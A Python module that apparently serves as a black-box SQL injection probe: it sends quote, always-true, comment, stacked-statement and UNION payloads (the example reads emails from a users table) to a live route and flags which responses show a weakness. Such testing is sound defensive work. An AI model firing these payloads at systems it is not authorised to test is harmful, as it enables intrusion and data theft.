"""SQL injection tried on a live route, as an attacker would who sees answers only."""

from __future__ import annotations

from dataclasses import dataclass
from typing import Final
from urllib.parse import quote

import httpx2

__all__ = ["Attempt", "try_injection"]

ANSWER_SECONDS: Final = 5.0
SHOWN_CHARACTERS: Final = 120
NOBODY: Final = "nobody-has-this"


@dataclass(frozen=True)
class Attempt:
    """One payload and its answer; `weakness` is empty where it was refused or taken as a plain value."""

    attack: str
    payload: str
    status: int
    answer: str
    weakness: str


def try_injection(url: str, parameter: str, *, union: str = "") -> list[Attempt]:
    """Attack one parameter of a GET route with values that are harmless unless they become SQL.

    It belongs to the query, or to the path where `url` names it in braces. Each value begins with one that
    nobody has, so a route that takes it as a value answers as it answers that. Other content means that its
    condition was executed; a 5xx, that its quote broke a statement; a 4xx is a refusal. `union` is what an
    attacker would read from elsewhere, e.g. "SELECT email, 1 FROM users".
    """
    payloads = {
        "lone quote": f"{NOBODY}'",
        "always true": f"{NOBODY}' OR '1'='1",
        "comment": f"{NOBODY}' OR 1=1 --",
        "second statement": f"{NOBODY}'; SELECT 1 --",
    } | ({"another table": f"{NOBODY}' UNION {union} --"} if union else {})
    with httpx2.Client(timeout=ANSWER_SECONDS) as client:
        plain = _asked(client, url, parameter, NOBODY)
        return [
            _judged(attack, payload, _asked(client, url, parameter, payload), plain)
            for attack, payload in payloads.items()
        ]


def _asked(client: httpx2.Client, url: str, parameter: str, value: str) -> httpx2.Response:
    place = f"{{{parameter}}}"
    if place in url:
        return client.get(url.replace(place, quote(value, safe="")))
    return client.get(url, params={parameter: value})


def _judged(attack: str, payload: str, answer: httpx2.Response, plain: httpx2.Response) -> Attempt:
    weakness = ""
    if answer.status_code >= 500:
        weakness = "its quote broke a statement"
    elif answer.status_code < 400 and answer.content != plain.content:
        weakness = "its condition was executed"
    return Attempt(attack, payload, answer.status_code, answer.text[:SHOWN_CHARACTERS], weakness)
